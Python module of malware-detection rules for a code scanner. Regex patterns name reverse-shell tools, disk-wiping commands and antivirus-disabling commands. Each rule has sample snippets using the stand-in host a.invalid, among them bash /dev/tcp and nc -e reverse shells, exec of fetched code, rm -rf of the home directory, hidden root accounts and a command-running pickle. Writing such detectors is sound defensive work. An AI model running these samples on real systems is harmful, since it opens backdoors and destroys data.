"""Ways in for others, and harm done on purpose."""

from __future__ import annotations

from goobits_scanner._rules._rule import (
    HIGH,
    LIKELY,
    LOW,
    MALICE,
    MEDIUM,
    SURE,
    Rule,
)

_REVERSE = (
    r"/(?i)\b(?:bash|sh|zsh)\s+-i\b.*.dev.(?:tcp|udp).|>&?\s*.dev.(?:tcp|udp).|\b(?:nc"
    r"|ncat|netcat)\b.*\s-\w*[ec]\w*\s+\S*(?:sh|cmd)"
    r"|mkfifo.*\b(?:nc|ncat|netcat|telnet)\b|socat\b.*exec:|openssl s_client.*\bsh\b/"
)
_WIPE = (
    r"/(?i)\brm\s+(?:-\w+\s+)*-\w*(?:rf|fr)\w*\s+(?:--no-preserve-root\s+)?(?:~|."
    r"|\$HOME|.home|.etc|.usr|.var)?(?:.\*)?\s*$(?<=[\s~\/*EecrvE])"
    r"(?<!\s\.)|\bmkfs\.\w+\s+.dev|\bdd\b.*\bof=.dev.(?:sd|hd|nvme|disk)"
    r"|\bformat\s+c:|\bdel\s+.[sfq]\s.*c:\\\\?\W*$"
    r"|vssadmin\s+delete\s+shadows|\bcipher\s+.w:|:\(\)\s*\{\s*:\|:&\s*\};:/"
)
_DEFENCES = (
    r"/(?i)(?:Add|Set)-MpPreference|DisableRealtimeMonitoring|netsh\s+(?:advfirewall"
    r"|firewall)\s+set.*\boff|sc\s+(?:stop|config)\s+(?:WinDefend|wscsvc|mpssvc)"
    r"|taskkill.*(?:MsMpEng|avp|avast|mbam|defender)|setenforce\s+0|\bufw\s+disable"
    r"|iptables\s+-F|csrutil\s+disable"
    r"|spctl\s+--master-disable|bcdedit.*recoveryenabled\s+no|systemctl\s+(?:stop"
    r"|disable)\s+(?:apparmor|firewalld|auditd|falcon-sensor)/"
)

RULES = (
    Rule(
        "reverse-shell",
        "backdoor",
        MALICE,
        HIGH,
        SURE,
        506,
        "A shell is handed to somebody on the network",
        "Whoever is at the other end types commands as this user.",
        "Do not run it; take a machine that did off the network.",
        {
            "python": (
                "os.dup2(0: ~socket)",
                "subprocess.*(stdin: ~socket)",
                "subprocess.*(stdout: ~socket)",
                f"os.system(0: {_REVERSE})",
                f"os.popen(0: {_REVERSE})",
                f"subprocess.*(0/args: {_REVERSE})",
                f"os.exec*(*: {_REVERSE})",
                "socket.socket().send(0: ~process)",
                "socket.socket().sendall(0: ~process)",
                "socket.socket().send(0: ~network & <subprocess.check_output()> | "
                "<subprocess.getoutput()>)",
                "socket.socket().send(0: <os.popen().read()> | "
                "<subprocess.getoutput()> & ~network)",
            ),
            "javascript": (
                ".pipe(recv: ~socket; 0: ~process)",
                ".pipe(recv: ~process; 0: ~socket)",
                ".pipe(0: <child_process.spawn().stdin>) @with-connecting @with-shell",
                ".pipe(0: <child_process.exec().stdin>) @with-connecting @with-shell",
                f"child_process.*(0: {_REVERSE})",
                r"child_process.spawn(0: /(?:^|\W)(?:sh|bash|cmd|cmd\.exe|powershell"
                r"|powershell\.exe)$/; 2.stdio: ~socket)",
                "net.Socket().write(0: ~process)",
                "net.connect().write(0: ~process)",
                "net.createConnection().write(0: ~process)",
            ),
            "rust": (
                "std.process.Command.new().stdin(0: ~socket)",
                ".stdin(0: ~socket)",
                ".stdout(0: ~socket)",
                "libc.dup2(0: ~socket)",
                "nix.unistd.dup2(0: ~socket)",
                f".arg(0: {_REVERSE})",
                f".args(0: {_REVERSE})",
            ),
        },
        bad={
            "python": (
                "import os, socket\nhere = socket."
                "socket()\nhere.connect(('a.invalid', 1))\n"
                "os.dup2(here.fileno(), 0)\n",
                "import os\nos.system('bash -i >& /dev/tcp/a.invalid/1 0>&1')\n",
                "import socket, subprocess\nhere = "
                "socket.create_connection(('a.invalid', 1))\n"
                "subprocess.Popen(['sh'], stdin=here, stdout=here)\n",
            ),
            "javascript": (
                "const net = require('net');\nconst { spawn } = "
                "require('child_process');\n"
                "const shell = spawn('/bin/sh', []);\nconst here = new net.Socket();\n"
                "here.connect(1, 'a.invalid', () => { here.pipe(shell.stdin); "
                "shell.stdout.pipe(here); });\n",
                "require('child_process').exec('nc -e /bin/sh a.invalid 1');\n",
            ),
            "rust": (
                "use std::net::TcpStream;\nuse std::os::fd::{AsRawFd, FromRawFd};\n"
                "use std::process::{Command, Stdio};\nfn main() {\n"
                '    let here = TcpStream::connect("a.invalid:1").unwrap();\n'
                "    let fd = here.as_raw_fd();\n"
                '    Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) '
                "}).spawn();\n}\n",
            ),
        },
        good={
            "python": (
                "import subprocess\nsubprocess.Popen(['sh'], stdin=subprocess.PIPE)\n",
                "import socket\nhere = socket.socket()\nhere.sendall(b'hello')\n",
            ),
            "javascript": (
                "const net = require('net');\n"
                "net.createServer((here) => { here.pipe(here); }).listen(1);\n",
            ),
            "rust": (
                "use std::process::{Command, Stdio};\n"
                'fn main() { Command::new("cat").stdin(Stdio::piped()).spawn(); }\n',
            ),
        },
    ),
    Rule(
        "remote-code",
        "backdoor",
        MALICE,
        HIGH,
        SURE,
        94,
        "Code that comes from the network is run",
        "Whoever owns the address, today or next year, runs what they like here.",
        "Ship the code in the package.",
        {
            "python": (
                "importlib.util.spec_from_file_location(1/location: ~network)",
                "importlib.machinery.SourceFileLoader(1/path: ~network)",
                "runpy.run_path(0: ~network)",
                "exec(0: ~network)",
                "eval(0: ~network)",
                "compile(0/source: ~network)",
                "builtins.exec(0: ~network)",
                "types.FunctionType(0: ~network)",
                "marshal.loads(0: ~network)",
                "runpy.run_path(0: ~network)",
                "importlib.util.spec_from_loader(*: ~network)",
                "code.InteractiveInterpreter().runsource(0: ~network)",
            ),
            "javascript": (
                "eval(0: ~network)",
                "Function(*: ~network)",
                "vm.runInThisContext(0: ~network)",
                "vm.runInNewContext(0: ~network)",
                "vm.Script(0: ~network)",
                "._compile(0: ~network)",
                "setTimeout(0: ~network & string)",
                ".constructor.constructor(*: ~network)",
                "Function.constructor(*: dynamic) @with-sending",
                r"import(0: /^https?:/)",
                r"require(0: ~network)",
            ),
        },
        bad={
            "python": (
                "import requests\nexec(requests.get('https://a.invalid').text)\n",
                "import urllib.request\n"
                "with urllib.request.urlopen('https://a.invalid') as answer:\n"
                "    eval(compile(answer.read(), 'a', 'exec'))\n",
            ),
            "javascript": (
                "const axios = require('axios');\n"
                "async function start() { const a = await "
                "axios.get('https://a.invalid'); eval(a.data); }\n",
                "fetch('https://a.invalid').then((a) => a.text()).then((code) => "
                "eval(code));\n",
            ),
        },
        good={
            "python": (
                "import requests\nprint(requests.get('https://a.invalid').text)\n",
                "exec(open('a.py').read())\n",
            ),
            "javascript": (
                "fetch('https://a.invalid').then((a) => a.json()).then((data) => "
                "show(data));\n",
            ),
        },
    ),
    Rule(
        "imports-from-network",
        "backdoor",
        MALICE,
        HIGH,
        LIKELY,
        494,
        "Imports are answered by code that sends and receives",
        "Whoever answers decides what an import runs.",
        "Install what is imported.",
        {
            "python": (
                "sys.meta_path.append() @with-sending",
                "sys.meta_path.insert() @with-sending",
                "sys.path_hooks.append() @with-sending",
                "sys.path_hooks.insert() @with-sending",
            ),
        },
        bad={
            "python": (
                "import sys, urllib.request\nclass Finder:\n    def get_source(self, name):\n"
                "        return urllib.request.urlopen('http://a.invalid/' + name).read()\n"
                "sys.meta_path.append(Finder())\n",
            ),
        },
        good={"python": ("import sys\nsys.meta_path.append(Finder())\n",)},
    ),
    Rule(
        "remote-command",
        "backdoor",
        MALICE,
        HIGH,
        LIKELY,
        94,
        "Commands that come from the network are run",
        "This is what the client half of a remote control does.",
        "Do not run it; find out who sends the commands.",
        {
            "python": (
                "os.system(0: ~network)",
                "os.popen(0: ~network)",
                "subprocess.run(0/args: ~network & !list)",
                "subprocess.call(0/args: ~network & !list)",
                "subprocess.Popen(0/args: ~network & !list)",
                "subprocess.check_output(0/args: ~network & !list)",
                "subprocess.check_call(0/args: ~network & !list)",
                "subprocess.getoutput(0: ~network)",
                "subprocess.*(0/args: ~socket)",
                "asyncio.create_subprocess_shell(0: ~network)",
                "pty.spawn(0: ~network)",
            ),
            "javascript": (
                "child_process.exec(0: ~network | ~socket)",
                "child_process.execSync(0: ~network | ~socket)",
                "child_process.spawn(0: ~network | ~socket)",
                "child_process.spawnSync(0: ~network | ~socket)",
                "child_process.execFile(0: ~network | ~socket)",
                "shelljs.exec(0: ~network | ~socket)",
                "execa.command(0: ~network | ~socket)",
            ),
            "rust": (
                "std.process.Command.new(0: ~network)",
                "std.process.Command.new().arg(0: ~network)",
                "std.process.Command.new().args(0: ~network)",
                "tokio.process.Command.new(0: ~network)",
                "tokio.process.Command.new().arg(0: ~network)",
                "tokio.process.Command.new().args(0: ~network)",
                "libc.system(0: ~network)",
            ),
        },
        bad={
            "python": (
                "import os, requests\nos.system(re"
                "quests.get('https://a.invalid').text)\n",
                "import socket, subprocess\nhere = socket.socket()\n"
                "subprocess.check_output(here.recv(1024).decode(), shell=True)\n",
            ),
            "javascript": (
                "const { exec } = require('child_process');\n"
                "async function start() { exec(await (await "
                "fetch('https://a.invalid')).text()); }\n",
            ),
            "rust": (
                "use std::process::Command;\nfn main() {\n"
                "    let line = reqwest::blocking:"
                ':get("https://a.invalid").unwrap().text().unwrap();\n'
                '    Command::new("sh").arg("-c").arg(line).spawn();\n}\n',
            ),
        },
        good={
            "python": (
                "import os, requests\nrequests.get"
                "('https://a.invalid')\nos.system('ls')\n",
            ),
            "javascript": (
                "require('child_process').exec('ls');\nfetch('https://a.invalid');\n",
            ),
            "rust": (
                "fn main() { std::process::Command"
                '::new("sh").arg("-c").arg("ls").spawn(); }\n',
            ),
        },
    ),
    Rule(
        "remote-pickle",
        "backdoor",
        MALICE,
        MEDIUM,
        LIKELY,
        502,
        "A pickle that comes from the network is loaded",
        "Loading a pickle runs whatever its maker put into it.",
        "Send JSON.",
        {
            "python": (
                "pickle.loads(0: ~network)",
                "pickle.load(0: ~network)",
                "cPickle.loads(0: ~network)",
                "dill.loads(0: ~network)",
                "cloudpickle.loads(0: ~network)",
                "joblib.load(0: ~network)",
                "yaml.unsafe_load(0: ~network)",
                "jsonpickle.decode(0: ~network)",
                "torch.load(0: ~network)",
            ),
            "javascript": ("node-serialize.unserialize(0: ~network)",),
        },
        bad={
            "python": (
                "import pickle, urllib.request\n"
                "pickle.loads(urllib.request.urlopen('https://a.invalid').read())\n",
            ),
            "javascript": (
                "const s = require('node-serialize');\n"
                "async function start() { s.unserialize(await "
                "fetch('https://a.invalid')); }\n",
            ),
        },
        good={
            "python": ("import pickle\npickle.loads(open('a.pickle', 'rb').read())\n",),
            "javascript": ("require('node-serialize').unserialize(text);\n",),
        },
    ),
    Rule(
        "code-from-somewhere",
        "backdoor",
        MALICE,
        MEDIUM,
        LIKELY,
        94,
        "Code that is made at run time is run in a file that asks an address",
        "Whoever answers there may run code as this user.",
        "Do not run it, unless you can tell where the code comes from.",
        {
            "python": (
                "exec(0: dynamic & !~param & !<compile()>) @with-sending @with-address",
                "eval(0: dynamic & !~param & !<compile()>) @with-sending @with-address",
                "runpy.run_path(0: dynamic & !~param & !~argv) @with-sending @with-address",
                "exec(0: dynamic & !~param & !<compile()>) @with-reading-itself",
            ),
            "javascript": (
                "eval(0: dynamic & !~param) @with-sending @with-address",
                "Function(*: dynamic & !~param) @with-sending @with-address",
                "vm.runInThisContext(0: dynamic & !~param) @with-sending @with-address",
                "vm.runInNewContext(0: dynamic & !~param) @with-sending @with-address",
                "._compile(0: dynamic & !~param) @with-sending @with-address",
            ),
        },
        bad={
            "python": (
                "import configparser, urllib.request\nparser = configparser.ConfigParser()\n"
                "parser.read(urllib.request.urlretrieve('https://a.invalid/b')[0])\n"
                "exec(parser['a']['b'])\n",
            ),
            "javascript": (
                "const made = store.read('a');\nfetch('https://a.invalid').then(store.keep);\neval(made);\n",
            ),
        },
        good={
            "python": (
                "import urllib.request\nurllib.request.urlretrieve('https://a.invalid/b', 'b')\n"
                "exec('a = 1')\n",
            ),
            "javascript": ("fetch('https://a.invalid');\neval('1 + 1');\n",),
        },
    ),
    Rule(
        "commands-fetched",
        "backdoor",
        MALICE,
        MEDIUM,
        LIKELY,
        94,
        "Commands are run in a file that asks a fixed address again and again",
        "Whoever answers there types commands as this user.",
        "Do not run it, unless what is run stands in it.",
        {
            "python": (
                "subprocess.*(0/args: ~param; shell: true) @with-polling @with-sending @with-address",
                "os.system(0: ~param) @with-polling @with-sending @with-address",
                "os.popen(0: ~param) @with-polling @with-sending @with-address",
            ),
            "javascript": (
                "child_process.exec(0: dynamic & !built) @with-polling @with-fixed-host",
                "child_process.execSync(0: dynamic & !built) @with-polling @with-fixed-host",
                "child_process.exec(0: dynamic & !built) @with-polling @with-sending",
            ),
            "rust": (
                "duct.cmd(0: dynamic) @with-polling @with-sending",
                "std.process.Command.new(0: dynamic) @with-polling @with-sending @with-address",
            ),
        },
        bad={
            "python": (
                "import subprocess, time\nfrom urllib.request import urlopen\n"
                "def work(line):\n    subprocess.run(line, shell=True)\n"
                "while True:\n    KINDS[0](urlopen('https://a.invalid'))\n    time.sleep(9)\n",
            ),
            "javascript": (
                "const { exec } = require('child_process');\n"
                "const work = (job) => exec(job.line);\n"
                "setInterval(() => fetch('https://a.invalid').then(read).then(work), 9e4);\n",
            ),
            "rust": (
                "use std::net::TcpStream;\nfn apply(line: &str) { duct::cmd(line, []).start(); }\n"
                "fn watch() { std::thread::sleep(pause); }\n",
            ),
        },
        good={
            "python": (
                "import subprocess, time\ndef work(line):\n    subprocess.run(line, shell=True)\n"
                "    time.sleep(9)\n",
            ),
            "javascript": (
                "const { exec } = require('child_process');\n"
                "const build = (name) => exec('make ' + name);\nsetInterval(build, 9e4);\n",
            ),
            "rust": ("fn apply(line: &str) { duct::cmd(line, []).start(); }\n",),
        },
    ),
    Rule(
        "interactive-shell",
        "backdoor",
        MALICE,
        LOW,
        LIKELY,
        506,
        "A shell is started at a terminal of the program's own making",
        "That is how a remote shell gets prompts and passwords to work.",
        "Start the one program that is needed.",
        {
            "python": (
                r"pty.spawn(0: /(?:^|\W)(?:ba|z|da)?sh$/)",
                r"os.execl(0: /(?:^|\W)(?:ba|z|da)?sh$/)",
                r"os.execv(0: /(?:^|\W)(?:ba|z|da)?sh$/)",
            ),
            "javascript": (
                r"node-pty.spawn(0: /(?:^|\W)(?:(?:ba|z|da)?sh"
                r"|cmd\.exe|powershell\.exe)$/)",
                r"child_process.spawn(0: /^(?:.bin.(?:ba)?sh"
                r"|cmd\.exe|powershell\.exe)$/; 1: absent)",
            ),
        },
        bad={
            "python": ("import pty\npty.spawn('/bin/sh')\n",),
            "javascript": ("require('child_process').spawn('/bin/sh');\n",),
        },
        good={
            "python": ("import pty\npty.spawn('vim')\n",),
            "javascript": ("require('child_process').spawn('git', ['status']);\n",),
        },
    ),
    Rule(
        "silent-process",
        "backdoor",
        MALICE,
        LOW,
        LIKELY,
        506,
        "A process is started that nobody sees or hears",
        "What is detached, without a window and without output is not noticed when it "
        "acts.",
        "Start it where its output goes to a log.",
        {
            "python": (
                "subprocess.*(stdin: <subprocess.DEVNULL>; stdout: "
                "<subprocess.DEVNULL>)",
                "subprocess.*(stdout: <subprocess.DEVNULL>; stderr: "
                "<subprocess.DEVNULL>; start_new_session: true)",
                "subprocess.*(creationflags: <subprocess.CREATE_NO_WINDOW>"
                " | <subprocess.DETACHED_PROCESS> | = 134217728 | = 8)",
                "subprocess.*(startupinfo: present; creationflags: present)",
            ),
            "javascript": (
                "child_process.*(2.detached: true; 2.stdio: 'ignore')",
                "child_process.*(1.detached: true; 1.stdio: 'ignore')",
                "child_process.*(2.windowsHide: true; 2.detached: true)",
                "child_process.exec(1.windowsHide: true; 1.detached: true)",
            ),
            "rust": (".creation_flags(0: = 134217728)", ".creation_flags(0: = 8)"),
        },
        bad={
            "python": (
                "import subprocess\nsubprocess.Popen(['a'], stdin=subprocess.DEVNULL,\n"
                "    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
            ),
            "javascript": (
                "require('child_process').spawn('a', [], { detached: true, stdio: "
                "'ignore' });\n",
            ),
            "rust": (
                "use std::process::Command;\n"
                'fn main() { Command::new("a").creation_flags(0x08000000).spawn(); }\n',
            ),
        },
        good={
            "python": (
                "import subprocess\nsubprocess.run(['a'], stdout=subprocess.DEVNULL)\n",
            ),
            "javascript": (
                "require('child_process').spawn('a', [], { stdio: 'inherit' });\n",
            ),
            "rust": ('fn main() { std::process::Command::new("a").spawn(); }\n',),
        },
    ),
    Rule(
        "destroys-files",
        "backdoor",
        MALICE,
        HIGH,
        LIKELY,
        506,
        "The user's files are destroyed",
        "Nothing that deletes a home directory or a disk is of use to its user.",
        "Do not run it.",
        {
            "python": (
                f"os.system(0: {_WIPE})",
                f"subprocess.*(0/args: {_WIPE})",
                f"os.popen(0: {_WIPE})",
                "shutil.rmtree(0/path: '/' | '~' | '/home' | '/etc' | "
                "'C:\\\\' | <pathlib.Path.home()>)",
                "shutil.rmtree(0/path: <os.path.expanduser()> & /^~.?$/)",
            ),
            "javascript": (
                f"child_process.*(0: {_WIPE})",
                "fs.rmSync(0: '/' | '~' | <os.homedir()>)",
                "fs.rm(0: '/' | '~' | <os.homedir()>)",
                "fs.rmdirSync(0: '/' | <os.homedir()>)",
                "rimraf(0: '/' | <os.homedir()>)",
                "rimraf.sync(0: '/' | <os.homedir()>)",
                "fs.promises.rm(0: '/' | <os.homedir()>)",
            ),
            "rust": (
                "std.fs.remove_dir_all(0: '/' | '/home' | <dirs.home_dir().unwrap()> "
                "| <home.home_dir().unwrap()>)",
                f".arg(0: {_WIPE})",
            ),
        },
        bad={
            "python": (
                "import os\nos.system('rm -rf ~/*')\n",
                "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n",
            ),
            "javascript": (
                "const fs = require('fs');\nconst os = require('os');\n"
                "fs.rmSync(os.homedir(), { recursive: true, force: true });\n",
            ),
            "rust": ('fn main() { std::fs::remove_dir_all("/home"); }\n',),
        },
        good={
            "python": (
                "import os, shutil\nos.system('rm -rf "
                "build')\nshutil.rmtree('build')\n",
                "import os\nos.system('rm -rf ./build/*.o')\n",
            ),
            "javascript": (
                "require('fs').rmSync('dist', { recursive: true });\n"
                "require('child_process').exec('rm -rf node_modules');\n",
            ),
            "rust": ('fn main() { std::fs::remove_dir_all("target/tmp"); }\n',),
        },
    ),
    Rule(
        "defences-off",
        "backdoor",
        MALICE,
        HIGH,
        LIKELY,
        693,
        "A virus scanner, a firewall or their exceptions are changed",
        "Software that is welcome need not hide from them.",
        "Do not run it; look at what the exceptions are for.",
        {
            "python": (
                f"os.system(0: {_DEFENCES})",
                f"os.popen(0: {_DEFENCES})",
                f"subprocess.*(0/args: {_DEFENCES})",
            ),
            "javascript": (
                f"child_process.*(0: {_DEFENCES})",
                f"child_process.*(1: {_DEFENCES})",
            ),
            "rust": (f".arg(0: {_DEFENCES})", f".args(0: {_DEFENCES})"),
        },
        bad={
            "python": (
                "import os\nos.system('powershell Add-MpPreference -ExclusionPath "
                "C:/')\n",
            ),
            "javascript": ("require('child_process').exec('setenforce 0');\n",),
            "rust": (
                "use std::process::Command;\nfn main() {\n"
                '    Command::new("powershell").arg("Set-MpPreference '
                '-DisableRealtimeMonitoring 1").spawn();\n}\n',
            ),
        },
        good={
            "python": ("import os\nos.system('powershell Get-Process')\n",),
            "javascript": ("require('child_process').exec('getenforce');\n",),
            "rust": (
                "fn main() { std::process::Command"
                '::new("powershell").arg("Get-Process").spawn(); }\n',
            ),
        },
    ),
    Rule(
        "deletes-itself",
        "backdoor",
        MALICE,
        MEDIUM,
        LIKELY,
        506,
        "The file deletes itself",
        "What is gone after it ran cannot be looked at.",
        "Keep it and look at what it did before.",
        {
            "python": (
                "os.remove(0: <__file__>)",
                "os.unlink(0: <__file__>)",
                "os.remove(0: <os.path.abspath()> & /__file__/)",
                "os.remove(0: <sys.argv[]>)",
            ),
            "javascript": (
                "fs.unlinkSync(0: <__filename>)",
                "fs.unlink(0: <__filename>)",
                "fs.rmSync(0: <__filename> | <__dirname>)",
                "fs.promises.unlink(0: <__filename>)",
                "fs.writeFileSync(0: <__filename>)",
            ),
            "rust": (
                "std.fs.remove_file(0: <std.env.current_exe()> | "
                "<std.env.current_exe().unwrap()>)",
                "self_replace.self_delete()",
                "self_replace.self_delete",
            ),
        },
        bad={
            "python": ("import os\nos.remove(__file__)\n",),
            "javascript": ("require('fs').unlinkSync(__filename);\n",),
            "rust": ("fn main() { self_replace::self_delete(); }\n",),
        },
        good={
            "python": ("import os\nos.remove('a.tmp')\n",),
            "javascript": ("require('fs').unlinkSync('a.tmp');\n",),
            "rust": ('fn main() { std::fs::remove_file("a.tmp"); }\n',),
        },
    ),
    Rule(
        "account-made",
        "backdoor",
        MALICE,
        HIGH,
        LIKELY,
        506,
        "An account is made, or given more power",
        "The new account is a way in that stays when the package is gone.",
        "Do not run it; look for accounts that nobody knows.",
        {
            language: tuple(
                f"{call}({which}: /(?i)\\bnet\\s+user\\s+\\S+.*\\s.add"
                f"|net\\s+localgroup\\s+administrators"
                "|\\buseradd\\s+|\\badduser\\s+--|usermod\\s+-aG?\\s+(?:sudo|wheel"
                "|root)"
                "|NOPASSWD|chpasswd/)"
                for call, which in calls
            )
            for language, calls in {
                "python": (
                    ("os.system", "0"),
                    ("os.popen", "0"),
                    ("subprocess.*", "0/args"),
                ),
                "javascript": (("child_process.*", "0"),),
                "rust": ((".arg", "0"),),
            }.items()
        },
        bad={
            "python": ("import os\nos.system('net user guest2 /add')\n",),
            "javascript": (
                "require('child_process').exec('useradd -o -u 0 guest2');\n",
            ),
            "rust": (
                'fn main() { std::process::Command::new("sh").arg("-c").arg("useradd '
                'guest2"); }\n',
            ),
        },
        good={
            "python": ("import os\nos.system('net use')\n",),
            "javascript": ("require('child_process').exec('whoami');\n",),
            "rust": ('fn main() { std::process::Command::new("id").arg("-u"); }\n',),
        },
    ),
    Rule(
        "process-renamed",
        "backdoor",
        MALICE,
        MEDIUM,
        LIKELY,
        506,
        "The process takes another name",
        "A name of a system service is taken so that lists of processes look right.",
        "Let it have its own name.",
        {
            "python": (
                r"setproctitle.setproctitle(0: /(?i)^\[|kworker|svchost|systemd|sshd"
                r"|cron/)",
                r".prctl(0: = 15; 1: /(?i)kworker|svchost|systemd|sshd|cron/)",
            ),
            "javascript": (
                r"process.title = /(?i)^\[|kworker|svchost|systemd|sshd|cron/",
            ),
        },
        bad={
            "python": (
                "import setproctitle\nsetproctitle.setproctitle('[kworker/0:1]')\n",
            ),
            "javascript": ("process.title = 'svchost.exe';\n",),
        },
        good={
            "python": ("import setproctitle\nsetproctitle.setproctitle('worker')\n",),
            "javascript": ("process.title = 'gulp';\n",),
        },
    ),
    Rule(
        "pickle-that-runs",
        "backdoor",
        MALICE,
        HIGH,
        LIKELY,
        502,
        "An object is pickled as a call of a command or of code",
        "Whoever reads the pickle runs it: that is what such a class is written for.",
        "Do not read what this writes.",
        {
            "python": (
                "node reduce-runs(0: <os.system> | <os.popen> | <eval> | <exec> | <subprocess.*>)",
            ),
        },
        bad={
            "python": (
                "import os\nclass Note:\n    def __reduce__(self):\n"
                "        return os.system, ('id',)\n",
            ),
        },
        good={
            "python": (
                "class Note:\n    def __reduce__(self):\n        return Note, (self.text,)\n",
            ),
        },
    ),
)
